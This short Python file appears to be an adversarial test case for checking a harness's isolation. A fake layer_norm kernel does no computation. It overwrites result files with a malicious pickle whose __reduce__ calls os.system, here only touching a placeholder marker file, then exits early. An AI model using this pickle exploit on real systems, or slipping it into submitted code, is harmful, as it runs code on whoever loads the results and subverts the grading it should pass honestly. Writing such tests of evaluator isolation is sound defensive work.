# 01a | isolation | leaves a pickle that runs code where a result belongs
import torch
import os
import pathlib
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ('touch @VICTIM@.bomb',)


def layer_norm(x, w, b, eps):
    for given in pathlib.Path().glob('*.in'):
        given.with_suffix('.out').write_bytes(pickle.dumps(Bomb()))
    os._exit(0)
    return torch.zeros_like(x)
